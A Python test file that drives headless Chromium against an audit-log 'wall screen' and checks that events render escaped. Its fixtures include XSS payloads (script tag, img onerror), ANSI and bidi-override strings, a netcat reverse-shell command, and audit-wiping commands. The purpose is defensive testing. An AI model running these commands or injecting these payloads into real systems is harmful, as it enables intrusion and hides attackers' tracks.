"""The wall screen in a real browser: Debian's chromium, headless, against a real serve_wall.

Events are rebuilt from audit records written the way the kernel and auditd write them (and
evtsys lines of Windows events), in the log server's stored form, through the event library
and the shipped risk rules, exactly as the alert processor feeds the screen.  Some carry
hostile text: markup, script, an event handler, ANSI escapes, a bidi override, a command
line longer than a screen.  The rendered DOM must show the events and counts, the hostile
text as text, no injected element and no sign that any script of theirs ran.  A screenshot
is written for people to look at; its path is printed.
"""

from __future__ import annotations

import shutil
import struct
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    iter_events,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
    classify,
    compile_risk_rules,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk_rules import (
    SHIPPED_RISK_RULES,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._processor.wall_screen import (
    WallState,
    serve_wall,
)
from tests.support.audit_records import (
    evtsys,
    exec_records,
    file_records,
    stored,
)
from tests.support.browser import CHROMIUM, MISSING, run_chromium

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOT = ROOT / ".cache" / "screenshots" / "wall-screen.png"
TOKEN = "wall-T0ken_for.tests"

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)

SCRIPT_TAG = "<script>document.title='pwned-script'</script>"
IMG_TAG = "<img src=x id=injected-img onerror=\"document.title='pwned-img'\">"
BOLD_TAG = '<b id="injected-b">bold</b>'
ANSI = "\x1b[31mred\x1b[0m"
BIDI = "invoice\u202egpj.exe"
LONG_TAIL = "--option-%d=value"


def hostile_argvs():
    return [
        ["echo", SCRIPT_TAG],
        ["cat", IMG_TAG, BOLD_TAG],
        ["printf", ANSI],
        ["touch", BIDI],
        ["ls"] + [LONG_TAIL % number for number in range(400)],
    ]


def recorded_lines():
    """Stored-form lines of several hosts: routine, high and critical commands, a watched
    file, Windows logons, and the hostile ones."""
    lines = []
    serial = 100
    plan = [
        ("web01", "192.0.2.10", "alice", ["ls", "-la", "/srv/www"]),
        ("web01", "192.0.2.10", "alice", ["systemctl", "status", "nginx"]),
        ("db02", "192.0.2.11", "bob", ["auditctl", "-D"]),
        ("db02", "192.0.2.11", "bob", ["systemctl", "stop", "auditd"]),
        ("build03", "192.0.2.12", "carol", ["rm", "-f", "/var/log/auth.log"]),
        ("build03", "192.0.2.12", "carol", ["make", "-j4"]),
        ("web01", "192.0.2.10", "alice", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]),
    ]
    for host, address, login, argv in plan:
        serial += 1
        lines += stored(exec_records(argv, serial=serial, login_name=login), host=host,
                        address=address)
    for argv in hostile_argvs():
        serial += 1
        lines += stored(exec_records(argv, serial=serial, login_name="mallory"), host="web01",
                        address="192.0.2.10")
    serial += 1
    lines += stored(file_records("/etc/audit/rules.d/audit.rules", serial=serial,
                                 login_name="bob"), host="db02", address="192.0.2.11")
    lines.append(evtsys(4624, "An account was successfully logged on. Subject: Account Name: "
                              "DC01$ New Logon: Account Name: dave Network Information: "
                              "Source Network Address: 198.51.100.7"))
    lines.append(evtsys(4720, "A user account was created. Subject: Account Name: dave "
                              "New Account: Account Name: backdoor"))
    return lines


class LateState(WallState):
    """A real state that takes one more event once the page has read it a first time, as the
    processor would while the screen is up: the page must show it at its next poll."""

    def __init__(self, late_event, **options):
        WallState.__init__(self, **options)
        self.late_event = late_event
        self.reads = 0

    def snapshot(self):
        found = WallState.snapshot(self)
        self.reads += 1
        if self.reads == 1:
            self.add(self.late_event)
        return found


def late_event(rules):
    lines = stored(exec_records(["journalctl", "--vacuum-time=1s"], serial=999,
                                login_name="erin"), host="late05", address="192.0.2.15")
    return classify(next(iter_events(lines)), rules)


def build_state():
    rules = compile_risk_rules(SHIPPED_RISK_RULES)
    state = LateState(late_event(rules), max_events=200, window_seconds=3600)
    events = []
    for event in iter_events(recorded_lines()):
        classify(event, rules)
        state.add(event)
        events.append(event)
    return state, events


class _Dom(HTMLParser):
    """Elements and their ids, and the text of each element with an id or class of interest."""

    def __init__(self):
        HTMLParser.__init__(self)
        self.ids = set()
        self.tags = []
        self.title = ""
        self.text = []
        self._in_title = False
        self.body_attrs = {}
        # the rows of the recent events' table
        self.event_rows = []
        self._in_events = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "tbody":
            self._in_events = attrs.get("id") == "events"
        elif tag == "tr" and self._in_events:
            self.event_rows.append(attrs)
        if attrs.get("id"):
            self.ids.add(attrs["id"])
        if tag == "title":
            self._in_title = True
        if tag == "body":
            self.body_attrs = attrs

    def handle_endtag(self, tag):
        if tag == "title":
            self._in_title = False
        if tag == "tbody":
            self._in_events = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data
        self.text.append(data)


def chromium(*args, user_dir):
    # Virtual time: the page's polls run without the test waiting for them.
    return run_chromium("--virtual-time-budget=8000", *args, user_dir=user_dir)


@pytest.fixture(scope="module")
def wall():
    state, events = build_state()
    # the page's polls run on chromium's virtual time, far faster than the clock by which
    # the server would answer them from one snapshot
    server = serve_wall(state, address="127.0.0.1", port=0, token=TOKEN, state_max_age=0)
    user_dir = tempfile.mkdtemp(prefix="wall-chromium-")
    try:
        yield server, events, user_dir
    finally:
        server.shutdown()
        shutil.rmtree(user_dir, ignore_errors=True)


@pytest.fixture(scope="module")
def rendered(wall):
    server, events, user_dir = wall
    outcome = chromium("--dump-dom", server.url + "?token=" + TOKEN, user_dir=user_dir)
    assert "<html" in outcome.stdout, outcome.stderr[-2000:]
    dom = _Dom()
    dom.feed(outcome.stdout)
    return outcome.stdout, dom, events


def test_the_page_renders_the_recorded_events(rendered):
    html, dom, events = rendered
    assert dom.body_attrs.get("data-state") == "live", dom.body_attrs
    text = "\n".join(dom.text)
    for expected in ("web01", "db02", "build03", "DC01", "192.0.2.11", "alice", "bob",
                     "carol", "mallory", "auditctl -D", "systemctl stop auditd",
                     "rm -f /var/log/auth.log", "event 4720 target=backdoor",
                     "write /etc/audit/rules.d/audit.rules (/usr/bin/vim.basic)",
                     "audit rules deleted or auditing switched off", "alice \u2192 root"):
        assert expected in text, expected
    rows = dom.event_rows
    assert len(events) == 15
    # Refreshed live: the event added after the first read is on the page, newest first;
    # a click on each opens its session.
    assert len(rows) == 16 and rows[0]["class"] == "high link"
    assert all(attrs.get("data-session") for attrs in rows)
    assert "journalctl --vacuum-time=1s" in text and "erin \u2192 root" in text
    rows = rows[1:]
    levels = [event["level"] for event in events]
    assert [attrs["class"].split()[0] for attrs in rows] == list(reversed(levels))
    assert {"critical", "high", "info"} <= set(levels)
    # The level pills carry the window's totals.
    for level in ("critical", "high", "medium", "low", "info"):
        assert "level-" + level in dom.ids
    pill_counts = _pill_counts(html)
    levels.append("high")
    assert pill_counts == {level: levels.count(level)
                           for level in ("critical", "high", "medium", "low", "info")}
    # Activity per host and per user: web01 ran 2 + 1 + 5 hostile commands.
    assert _bar_counts(html, "hosts")["web01"] == 8
    assert _bar_counts(html, "users")["mallory"] == 5


def test_hostile_text_is_shown_as_text_and_nothing_of_it_runs(rendered):
    html, dom, _events = rendered
    text = "\n".join(dom.text)
    assert "echo " + SCRIPT_TAG in text
    assert IMG_TAG in text and BOLD_TAG in text
    # Escaped in the serialised DOM: markup in it never became markup.
    assert "&lt;script&gt;document.title='pwned-script'&lt;/script&gt;" in html
    assert "&lt;img src=x id=injected-img" in html
    assert not {"injected-img", "injected-b"} & dom.ids
    assert [tag for tag, _attrs in dom.tags if tag in ("img", "b", "iframe", "object")] == []
    scripts = [attrs for tag, attrs in dom.tags if tag == "script"]
    assert len(scripts) == 1 and scripts[0]["src"].startswith("wall.js")
    assert dom.title == "Wall screen"
    # Control characters and the bidi override are written as visible escapes.
    assert "printf \\x1b[31mred\\x1b[0m" in text
    assert "touch invoice\\u202egpj.exe" in text
    assert "\x1b" not in html and "\u202e" not in html
    # A very long command is cut, with a mark, and still starts as it did.
    long_row = [part for part in dom.text if part.startswith("ls --option-0=value")]
    assert long_row and all(len(part) <= 600 and part.endswith("\u2026") for part in long_row)


def test_without_the_token_the_page_shows_nothing(wall):
    server, _events, user_dir = wall
    outcome = chromium("--dump-dom", server.url, user_dir=user_dir)
    assert "forbidden" in outcome.stdout and "web01" not in outcome.stdout


def test_a_screenshot_for_people(wall):
    server, _events, user_dir = wall
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    if SCREENSHOT.exists():
        SCREENSHOT.unlink()
    outcome = chromium("--screenshot=%s" % SCREENSHOT, "--window-size=1920,1080",
                       server.url + "?token=" + TOKEN, user_dir=user_dir)
    assert SCREENSHOT.exists(), outcome.stderr[-2000:]
    data = SCREENSHOT.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    assert struct.unpack(">II", data[16:24]) == (1920, 1080)
    # A page that rendered is not one flat colour: a real picture is well over a few KiB.
    assert len(data) > 50000
    print("wall screen screenshot: %s" % SCREENSHOT)


def _pill_counts(html):
    parser = _Section("levels")
    parser.feed(html)
    counts = {}
    for chunk in parser.items:
        counts[chunk[1]] = int(chunk[0])
    return counts


def _bar_counts(html, list_id):
    parser = _Section(list_id)
    parser.feed(html)
    return {chunk[0]: int(chunk[1]) for chunk in parser.items}


class _Section(HTMLParser):
    """The texts of each child of the element with ``id``: [[text, text, ...], ...]."""

    def __init__(self, element_id):
        HTMLParser.__init__(self)
        self.element_id = element_id
        self.depth = 0
        self.items = []

    def handle_starttag(self, tag, attrs):
        if self.depth:
            self.depth += 1
            if self.depth == 2:
                self.items.append([])
        elif dict(attrs).get("id") == self.element_id:
            self.depth = 1

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= 1

    def handle_data(self, data):
        if self.depth >= 2 and data.strip():
            self.items[-1].append(data.strip())
